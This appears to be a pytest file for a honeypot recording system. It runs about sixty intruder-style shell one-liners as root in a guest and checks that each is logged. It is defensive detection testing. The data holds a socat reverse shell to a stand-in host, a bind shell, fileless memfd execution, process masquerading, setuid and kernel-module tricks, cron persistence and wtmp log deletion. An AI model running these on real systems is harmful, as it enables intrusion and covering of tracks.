# SPDX-License-Identifier: GPL-2.0-or-later
"""Sixty things that intruders do, each by a line of shell, each found in the record as that visitor's.

One visit as root does them. What a kind of record holds in detail, what is done without a terminal (ssh, scp, sftp,
reverse shells), and what of all this may be missing, is looked at in the tests of processes, files, streams, lineage.
"""
import pytest

from conftest import APACHE, new_period, script_as_root_in_guest, wait_for

FAR = "203.0.113.9"
DIR = "/var/tmp/.sixty"


def perl(text):
    return f"perl -e '{text}'"


def ran(*args, **more):
    return {"event_type": "exec", "process.args": list(args)} | more


def did(kind, action, **more):
    return {"event_type": kind, "event.action": action} | more


# What is done, and what of an event must be so; "*" ends what a text begins with.
ACTIONS = {
    # programs
    "a program": ("/bin/true plain", ran("/bin/true", "plain")),
    "a program with arguments": ("ls -la /root/.ssh", ran("ls", "-la", "/root/.ssh")),
    "a memfd, by fexecve": (perl(
        '$^F = 99; open I, "/bin/true"; local $/; $f = syscall 319, my $n = "x", 0; open O, ">&=", $f; syswrite O, <I>; '
        'exec {"/proc/self/fd/$f"} "of-memory"'), ran("of-memory", **{"process.executable": "/memfd:x (deleted)"})),
    "a deleted program": (
        "cp /bin/true gone; " + perl('$^F = 99; open I, "gone"; unlink "gone"; $n = fileno I; exec {"/proc/self/fd/$n"} "of-gone"'),
        ran("of-gone", **{"process.executable": f"{DIR}/gone (deleted)"})),
    "a script": ("printf '#!/bin/sh\\ntrue\\n' >s; chmod 700 s; ./s", ran("/bin/sh", "./s", **{"process.script": f"{DIR}/s"})),
    "a script with an odd interpreter": (
        "printf '#!/usr/bin/env -S perl -w\\n' >odd; chmod 700 odd; ./odd with",
        ran("/usr/bin/env", "-S perl -w", "./odd", "with", **{"process.script": f"{DIR}/odd"})),
    "a renamed interpreter": (
        "cp /usr/bin/perl kworker; ./kworker -e 1", ran("./kworker", "-e", "1", **{"process.executable": f"{DIR}/kworker"})),
    "the loader, with a program": ("/lib64/ld-linux-x86-64.so.2 /bin/true by-loader",
                                   ran("/lib64/ld-linux-x86-64.so.2", "/bin/true", "by-loader")),
    "a program under another name": ("bash -c 'exec -a [kthreadd] sleep 0.01'",
                                     ran("[kthreadd]", "0.01", **{"process.executable": "/usr/bin/sleep"})),
    "a static program": ("/sbin/ldconfig -p >/dev/null", ran("/sbin/ldconfig", "-p")),
    "10,000 arguments": (perl('exec "/bin/true", 1 .. 10000'), {
        "event_type": "exec", "process.path": "/bin/true", "truncated": True}),
    "a name that is no text": ("n=$(printf 'x\\377'); cp /bin/true $n; ./$n no-text",
                               {"event_type": "exec", "process.executable": f"{DIR}/x*", "process.args": ["./x\ufffd", "no-text"]}),
    "a path of 4,095 bytes": (perl(
        'for (1 .. 16) { mkdir "d" x 250; chdir "d" x 250; } system "cp /bin/true t"; system "./t far-down"'),
        ran("./t", "far-down", **{"process.executable": f"{DIR}/dddd*"})),
    "what is not there": (perl('exec {"./nothing"} "nothing", "there"'),
                          {"event_type": "exec_failed", "process.args": ["nothing", "there"], "error.code": 2}),
    "what may not be run": (perl('exec {"/etc/hosts"} "hosts"'),
                            {"event_type": "exec_failed", "process.args": ["hosts"], "error.code": 13}),
    "an end with a status": ("sh -c 'exit 77'", {"event_type": "exit", "process.exit_code": 77}),
    "an end by a signal": ("sh -c 'kill -SEGV $$'", {"event_type": "exit", "process.exit_signal": 11}),
    "a fork": ("(:; :) &", {"event_type": "fork", "process.name": "sh"}),
    "a daemon, by two forks": (perl('use POSIX; fork and exit; setsid; fork and exit; exec "/bin/true", "daemon"'),
                               ran("/bin/true", "daemon")),
    "setsid": ("setsid -f /bin/true by-setsid", ran("/bin/true", "by-setsid")),
    "nohup": ("nohup /bin/true by-nohup 2>/dev/null", ran("/bin/true", "by-nohup")),
    # rights
    "another user": (perl('use POSIX; setgid 33; setuid 33; exec "/bin/true", "www"'),
                     did("creds", "uid", **{"after.uid": 33})),
    "su": ("su -s /bin/sh www-data -c '/bin/true by-su'", ran("/bin/true", "by-su", **{"process.user.id": 33})),
    "su in su": ("su root -c \"su -s /bin/sh www-data -c 'su -c x root </dev/null; /bin/true su-in-su'\"",
                 ran("/bin/true", "su-in-su", **{"process.user.id": 33})),
    "sudo": ("sudo -u www-data /bin/true by-sudo", ran("/bin/true", "by-sudo", **{"process.user.id": 33})),
    "a set-id program": ("cp /bin/dash suid; chmod 4755 suid; su -s /bin/sh www-data -c './suid -p -c :'",
                         ran("./suid", "-p", "-c", ":", setid=True)),
    "fewer capabilities": (perl('syscall 126, my $h = pack("LL", 0x20080522, 0), my $d = pack("L6", (0) x 6)'), {
        "event_type": "creds", "process.name": "perl", "before.uid": 0, "after.uid": 0, "after.permitted": 0}),
    "a namespace": ("unshare -m true", did("namespace", "unshare")),
    # files
    "a new file": (": >new", did("file", "create", **{"file.path": f"{DIR}/new"})),
    "a file opened for writing": (": >>/etc/hosts", did("file", "open", **{"file.path": "/etc/hosts"})),
    "a file written, with its bytes": ("echo loot >loot", did("content", "written", **{"file.path": f"{DIR}/loot", "file.size": 5})),
    "a file written by mmap": (perl(
        'open M, "+>", "m"; syswrite M, "0" x 4096; open S, "<", "/bin/true"; '
        '$a = syscall 9, 0, 4096, 3, 1, fileno M, 0; syscall 0, fileno S, $a, 4096'),
        did("content", "written", **{"file.path": f"{DIR}/m", "file.size": 4096})),
    "a file written by splice": (perl(
        'open F, ">", "sp"; pipe R, W; syswrite W, "spliced"; syscall 275, fileno R, 0, fileno F, 0, 7, 0'),
        did("content", "written", **{"file.path": f"{DIR}/sp", "file.size": 7})),
    "a file written by sendfile": (perl('open F, ">", "sf"; open I, "<", "/etc/hostname"; syscall 40, fileno F, fileno I, 0, 99'),
                                   did("content", "written", **{"file.path": f"{DIR}/sf"})),
    "rename": (": >r1; mv r1 r2", did("file", "rename", **{"file.path": f"{DIR}/r1", "file.target_path": f"{DIR}/r2"})),
    "link": (": >l1; ln l1 l2", did("file", "link", **{"file.target_path": f"{DIR}/l2"})),
    "symlink": ("ln -s /etc/shadow sh", did("file", "symlink", **{"file.path": f"{DIR}/sh"})),
    "unlink": (": >u; rm u", did("file", "unlink", **{"file.path": f"{DIR}/u"})),
    "chmod": (": >c; chmod 4711 c", did("file", "chmod", **{"file.path": f"{DIR}/c", "file.mode": 0o104711})),
    "chown": (": >o; chown 33:33 o", did("file", "chown", **{"file.path": f"{DIR}/o", "file.uid": 33})),
    "touched back": (": >t1; touch -d 2001-01-01 t1", did("file", "times", **{"file.path": f"{DIR}/t1"})),
    "truncate": ("echo x >tr; truncate -s 0 tr", did("file", "*", **{"file.path": f"{DIR}/tr"})),
    "mkdir": ("mkdir .hidden", did("file", "mkdir", **{"file.path": f"{DIR}/.hidden"})),
    "mknod": ("mknod fifo p", did("file", "mknod", **{"file.path": f"{DIR}/fifo"})),
    "mount": ("mount -t tmpfs none /mnt; umount /mnt", did("mount", "mount", **{"file.path": "/mnt", "mount.type": "tmpfs"})),
    "chroot": ("chroot / /bin/true in-chroot", did("mount", "chroot")),
    "a telling file": ("cat /proc/cpuinfo >/dev/null", {"event_type": "probe", "file.path": "/proc/cpuinfo"}),
    # the kernel
    "insmod": ("cp /bin/true x.ko; insmod ./x.ko", {"event_type": "module"}),
    "a look into init": (perl('open M, "+<", "/proc/1/mem"'), {"event_type": "ptrace", "target.pid": 1}),
    "kill": ("sleep 9 & sleep 0.2; kill -9 $!", {"event_type": "signal", "signal.number": 9, "target.name": "sleep"}),
    "/dev/mem": ("cat /dev/mem", did("kernel", "memory", **{"kernel.what": "/dev/mem"})),
    "bpf": (perl("syscall 321, 5, 0, 0"), did("kernel", "bpf")),
    "io_uring": (perl('syscall 425, 8, my $p = "\\0" x 120'), did("kernel", "io_uring")),
    # the network
    "a connection out": (f"bash -c 'echo x >/dev/tcp/{FAR}/81'", {"event_type": "connect", "dest_ip": FAR, "dest_port": 81}),
    "a datagram out": (f"bash -c 'echo x >/dev/udp/{FAR}/82'", {"event_type": "send", "dest_ip": FAR, "dest_port": 82}),
    "a raw socket": (perl("socket S, 2, 3, 1"), {"event_type": "socket", "socket.type": 3}),
    "a back door": ("timeout 0.2 socat TCP-LISTEN:4545,reuseaddr EXEC:/bin/sh", {"event_type": "listen", "src_port": 4545}),
    "a socat shell": (f"timeout 3 socat TCP:{FAR}:83,connect-timeout=1 EXEC:/bin/sh", ran(
        "socat", f"TCP:{FAR}:83,connect-timeout=1", "EXEC:/bin/sh")),
    # left to others
    "a cron job": ("echo '* * * * * root /bin/true by-cron' >/etc/cron.d/sixty", ran("/bin/true", "by-cron")),
    "a job of at": ("echo '/bin/true by-at' | at now 2>/dev/null", ran("/bin/true", "by-at")),
    "a unit": ("systemd-run --quiet /bin/true by-unit", ran("/bin/true", "by-unit")),
    "screen": ("screen -dmS x /bin/true in-screen", ran("/bin/true", "in-screen")),
    "screen in screen": ("screen -dmS y sh -c 'screen -dmS z /bin/true in-two-screens; sleep 1'", ran("/bin/true", "in-two-screens")),
    "LD_PRELOAD": ("cp /lib/x86_64-linux-gnu/libutil.so.1 p.so; LD_PRELOAD=$PWD/p.so /bin/true preloaded", ran(
        "/bin/true", "preloaded", **{"process.env_vars": f"LD_PRELOAD={DIR}/p.so"})),
    "a log deleted": ("rm -f /var/log/wtmp", did("file", "unlink", **{"file.path": "/var/log/wtmp"})),
}


def value(event, path):
    for name in path.split("."):
        event = event.get(name) if isinstance(event, dict) else None
    return event


def fits(event, want):
    def one(have, wanted):
        if isinstance(have, list) and not isinstance(wanted, list):
            return wanted in have
        if isinstance(wanted, str) and wanted.endswith("*"):
            return isinstance(have, str) and have.startswith(wanted[:-1])
        return have == wanted
    return all(one(value(event, path), wanted) for path, wanted in want.items())


class Visit:
    def __init__(self, skep, number):
        self.skep, self.number, self.events = skep, number, []

    def has(self, want):
        found = [e for e in self.events if fits(e, want)]
        if not found:
            self.events = self.skep.events("--session", str(self.number))
        return found


@pytest.fixture(scope="module")
def visit(skep):
    """The visit in which all of it is done."""
    new_period(skep)
    lines = [f"mkdir -p {DIR}; cd {DIR}; /bin/true sixty-begin"]
    lines += [f"({line})" for line, _ in ACTIONS.values()]
    lines += ["sleep 1", "/bin/true sixty-end", f"cd /; rm -rf {DIR}"]
    shown = script_as_root_in_guest(skep, APACHE, "\n".join(lines) + "\n")

    def begun():
        """the visit's first program and its last one"""
        marks = {m: e for e in skep.events("--kind", "exec", "--honeypot", "Apache")
                 for m in ("sixty-begin", "sixty-end") if m in e["process"]["args"]}
        return marks["sixty-begin"]["session"] if len(marks) == 2 else None
    yield Visit(skep, wait_for(begun, 30, 1))
    script_as_root_in_guest(skep, APACHE, "rm -f /etc/cron.d/sixty\n")
    print(shown)


def test_there_are_sixty():
    assert len(ACTIONS) >= 60


@pytest.mark.parametrize("action", ACTIONS)
def test_it_is_found_and_his(visit, action):
    _, want = ACTIONS[action]
    wait_for(lambda: visit.has(want), 75 if action == "a cron job" else 15, 0.5)
